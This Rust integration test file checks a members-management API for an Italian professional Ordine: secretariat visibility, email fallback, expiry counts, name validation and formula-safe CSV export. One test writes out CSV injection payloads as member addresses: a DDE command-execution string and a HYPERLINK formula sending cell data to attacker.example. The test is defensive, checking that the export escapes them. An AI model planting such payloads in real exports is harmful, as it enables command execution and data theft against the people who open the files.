//! The Ordine's panel as the rules say: a secretariat sees the members registered in its
//! Ordine now (cancelled and deceased ones are the Fondazione's), a member without an email
//! gets the secretariat's, "in scadenza" counts only what will lapse, and every CSV the
//! product writes is formula-safe.

mod support;

use std::sync::Arc;

use functions::store::sqlite::SqliteStore;
use serde_json::json;
use shared::access::Role;
use support::{ALBO_HEADER, Api, albo_row, caller, cf};

fn cancelled(row: String, causa: &str) -> String {
    row.replace(";iscritto;;;", &format!(";cancellato;01/10/2026;{causa};"))
}

#[tokio::test]
async fn a_secretariat_sees_only_the_members_registered_in_its_ordine() {
    let api = Api::new(Arc::new(SqliteStore::in_memory().unwrap()));
    let (attivo, sospeso, dimesso, deceduto) = (
        cf("Rossi", "Mario", 1),
        cf("Bianchi", "Anna", 2),
        cf("Verdi", "Luca", 3),
        cf("Neri", "Gino", 4),
    );
    api.register(&[
        albo_row("Mario", "Rossi", &attivo, "MI", "1"),
        albo_row("Anna", "Bianchi", &sospeso, "MI", "2")
            .replace(";iscritto;;;", ";sospeso;01/10/2026;;"),
        cancelled(albo_row("Luca", "Verdi", &dimesso, "MI", "3"), "dimissioni"),
        cancelled(albo_row("Gino", "Neri", &deceduto, "MI", "4"), "decesso"),
    ])
    .await;
    let mi = api.token(&caller(Role::Segreteria, None, Some("MI")));
    let fondazione = api.token(&caller(Role::Fondazione, None, None));
    let codes = |r: &support::Response| -> Vec<String> {
        let mut codes: Vec<String> = r.body["items"]
            .as_array()
            .unwrap()
            .iter()
            .map(|m| m["codice_fiscale"].as_str().unwrap().to_owned())
            .collect();
        codes.sort();
        codes
    };
    let mut registered = vec![attivo.clone(), sospeso.clone()];
    registered.sort();
    let list = api.get("/api/ordini/MI/members", &mi).await;
    assert_eq!(codes(&list), registered, "{}", list.text);
    let asked = api.get("/api/ordini/MI/members?albo=cancellato", &mi).await;
    assert!(codes(&asked).is_empty(), "{}", asked.text);
    for code in [&dimesso, &deceduto] {
        assert_eq!(
            api.get(&format!("/api/members/{code}"), &mi).await.status,
            404
        );
        let search = api
            .get(&format!("/api/ordini/MI/members?q={code}"), &mi)
            .await;
        assert!(codes(&search).is_empty());
        // The Fondazione has them.
        assert_eq!(
            api.get(&format!("/api/members/{code}"), &fondazione)
                .await
                .status,
            200
        );
    }
    let export = api.get("/api/ordini/MI/export", &mi).await;
    assert!(export.text.contains(&attivo) && export.text.contains(&sospeso));
    assert!(!export.text.contains(&dimesso) && !export.text.contains(&deceduto));
    let all = api.get("/api/ordini/MI/members", &fondazione).await;
    assert_eq!(codes(&all).len(), 4);
    // Nor can it activate one.
    let refused = api
        .json(
            "POST",
            "/api/ordini/MI/activations",
            &mi,
            &json!({ "codice_fiscale": dimesso }),
        )
        .await;
    assert_eq!(refused.body["code"], "not_in_ordine", "{}", refused.text);
}

#[tokio::test]
async fn a_member_without_an_email_gets_the_secretariats() {
    let api = Api::new(Arc::new(SqliteStore::in_memory().unwrap()));
    let albo = api.token(&caller(Role::Albo, None, None));
    let mario = cf("Rossi", "Mario", 1);
    let row = albo_row("Mario", "Rossi", &mario, "MI", "1")
        .replace(&format!("{}@example.it", mario.to_lowercase()), "");
    let csv = format!("{ALBO_HEADER}\n{row}");
    let without = api.csv("/api/albo/import?mode=commit", &albo, &csv).await;
    assert_eq!(without.body["rows"][0]["errori"][0]["field"], "email");

    let mi = api.token(&caller(Role::Segreteria, None, Some("MI")));
    let profilo = json!({ "email_segreteria": "segreteria@ordine-mi.example.it", "telefono": "", "indirizzo": "Viale Andrea Doria 9", "version": 0 });
    let saved = api
        .json("PUT", "/api/ordini/MI/profilo", &mi, &profilo)
        .await;
    assert_eq!(saved.status, 200, "{}", saved.text);
    // A stale version is refused.
    let stale = api
        .json("PUT", "/api/ordini/MI/profilo", &mi, &profilo)
        .await;
    assert_eq!(stale.status, 409, "{}", stale.text);
    // Another Ordine's secretariat may not read or change it.
    let rm = api.token(&caller(Role::Segreteria, None, Some("RM")));
    assert_eq!(api.get("/api/ordini/MI/profilo", &rm).await.status, 403);

    let with = api.csv("/api/albo/import?mode=commit", &albo, &csv).await;
    assert_eq!(with.body["errors"], 0, "{}", with.text);
    let member = api.get(&format!("/api/members/{mario}"), &mi).await;
    assert_eq!(
        member.body["anagrafica"]["email"], "segreteria@ordine-mi.example.it",
        "never the Ordine's PEC"
    );
    let profile = api.get("/api/ordini/MI/profilo", &mi).await;
    assert_eq!(profile.body["version"], 1);
    assert_eq!(
        profile.body["profilo"]["email_segreteria"],
        "segreteria@ordine-mi.example.it"
    );
    // A row about a known member needs no email (a cancellation, a transfer), even where
    // the Ordine has no profile: the holder keeps his contact data.
    let anna = cf("Bianchi", "Anna", 2);
    api.register(&[albo_row("Anna", "Bianchi", &anna, "RM", "2")])
        .await;
    let without_email = cancelled(albo_row("Anna", "Bianchi", &anna, "RM", "2"), "dimissioni")
        .replace(&format!("{}@example.it", anna.to_lowercase()), "");
    let later = api
        .csv(
            "/api/albo/import?mode=commit",
            &albo,
            &format!("{ALBO_HEADER}\n{without_email}"),
        )
        .await;
    assert_eq!(later.body["errors"], 0, "{}", later.text);
    assert_eq!(later.body["rows"][0]["esito"], "aggiornato");
}

#[tokio::test]
async fn in_scadenza_counts_only_what_will_lapse() {
    let store = Arc::new(SqliteStore::in_memory().unwrap());
    let api = Api::new(store.clone());
    let (base, leaving) = (cf("Rossi", "Mario", 1), cf("Verdi", "Luca", 2));
    api.register(&[
        albo_row("Mario", "Rossi", &base, "MI", "1"),
        albo_row("Luca", "Verdi", &leaving, "MI", "2"),
    ])
    .await;
    api.activate("MI", &base).await;
    api.activate("MI", &leaving).await;
    // Luca leaves the Albo: his mailbox will close at its scadenza; Mario's Base term
    // renews by itself.
    api.register(&[cancelled(
        albo_row("Luca", "Verdi", &leaving, "MI", "2"),
        "dimissioni",
    )])
    .await;
    let fondazione = api.token(&caller(Role::Fondazione, None, None));
    // Both terms end on 22/11/2027. On 1/9/2027, within 90 days of it, only Luca's will
    // lapse: Mario's Base term renews by itself.
    let later = Api::at(store, "2027-09-01T10:00:00Z");
    let overview = later
        .get(
            "/api/ordini",
            &later.token(&caller(Role::Fondazione, None, None)),
        )
        .await;
    let mi = overview
        .body
        .as_array()
        .unwrap()
        .iter()
        .find(|o| o["ordine"] == "MI")
        .unwrap()
        .clone();
    assert_eq!(mi["caselle"], 2, "{mi}");
    assert_eq!(mi["in_scadenza"], 1, "{mi}");
    let soon = api
        .get("/api/ordini/MI/members?scadenza_entro=366", &fondazione)
        .await;
    let items = soon.body["items"].as_array().unwrap();
    assert_eq!(items.len(), 1, "{}", soon.text);
    assert_eq!(items[0]["codice_fiscale"], leaving.as_str());
}

#[tokio::test]
async fn no_csv_cell_of_the_product_starts_a_formula() {
    let api = Api::new(Arc::new(SqliteStore::in_memory().unwrap()));
    let (mario, gino) = (cf("Rossi", "Mario", 1), cf("Neri", "Gino", 2));
    // The Albo can plant one…
    let planted = albo_row("Gino", "Neri", &gino, "MI", "2")
        .replace("Via Roma 1", "@SUM(1+1)*cmd|' /C calc'!A0");
    api.register(&[albo_row("Mario", "Rossi", &mario, "MI", "1"), planted])
        .await;
    // …and a member can type one in his own address.
    let holder = api.token(&caller(Role::Iscritto, Some(&mario), None));
    let me = api.get("/api/me", &holder).await;
    let update = json!({
        "indirizzo": "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"Clicca\")",
        "comune": "Milano", "provincia": "MI", "cap": "20121", "email": "m@example.it",
        "telefono": "+39 02 1234567", "version": me.body["member"]["version"]
    });
    let saved = api.json("PATCH", "/api/me/profile", &holder, &update).await;
    assert_eq!(saved.status, 200, "{}", saved.text);
    let mi = api.token(&caller(Role::Segreteria, None, Some("MI")));
    let export = api.get("/api/ordini/MI/export", &mi).await;
    assert_eq!(export.status, 200);
    let cells: Vec<&str> = export
        .text
        .lines()
        .flat_map(|line| line.split(';'))
        .map(|cell| cell.trim_start_matches('"'))
        .collect();
    assert!(
        cells
            .iter()
            .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "{}",
        export.text
    );
    assert!(export.text.contains("'=HYPERLINK"), "{}", export.text);
    assert!(export.text.contains("'@SUM"), "{}", export.text);
    assert!(export.text.contains("'+390212345"), "{}", export.text);
}

#[tokio::test]
async fn names_that_can_never_give_an_address_are_refused_on_their_row() {
    let api = Api::new(Arc::new(SqliteStore::in_memory().unwrap()));
    let albo = api.token(&caller(Role::Albo, None, None));
    let good = cf("Rossi", "Mario", 1);
    let rows = [
        albo_row("Mario", "Rossi", &good, "MI", "1"),
        albo_row("---", "Bianchi", &cf("Bianchi", "Anna", 2), "MI", "2"),
        albo_row("Luca", "12345", &cf("Verdi", "Luca", 3), "MI", "3"),
        albo_row("<b>Gino</b>", "Neri", &cf("Neri", "Gino", 4), "MI", "4"),
        albo_row("Sara 😀", "Blu", &cf("Blu", "Sara", 5), "MI", "5"),
    ];
    let csv = format!("{ALBO_HEADER}\n{}", rows.join("\n"));
    let report = api.csv("/api/albo/import?mode=commit", &albo, &csv).await;
    assert_eq!(report.status, 200, "{}", report.text);
    let rows = report.body["rows"].as_array().unwrap();
    assert_eq!(rows[0]["esito"], "nuovo");
    for (row, (line, field)) in
        rows[1..]
            .iter()
            .zip([(3, "nome"), (4, "cognome"), (5, "nome"), (6, "nome")])
    {
        assert_eq!(row["esito"], "errore", "{row}");
        assert_eq!(row["riga"], line);
        assert_eq!(row["errori"][0]["field"], field, "{row}");
    }
    // NUL and other control characters, one at a time through the API.
    let upsert = json!({
        "nome": "Mar\u{0}io", "cognome": "Rossi", "codice_fiscale": good, "indirizzo": "Via Roma 1",
        "comune": "Milano", "provincia": "MI", "cap": "20121", "email": "m@example.it",
        "ordine": "MI", "numero_iscrizione": "1"
    });
    let refused = api
        .json("PUT", &format!("/api/albo/members/{good}"), &albo, &upsert)
        .await;
    assert_eq!(refused.status, 422, "{}", refused.text);
    assert_eq!(refused.body["field"], "nome");
}
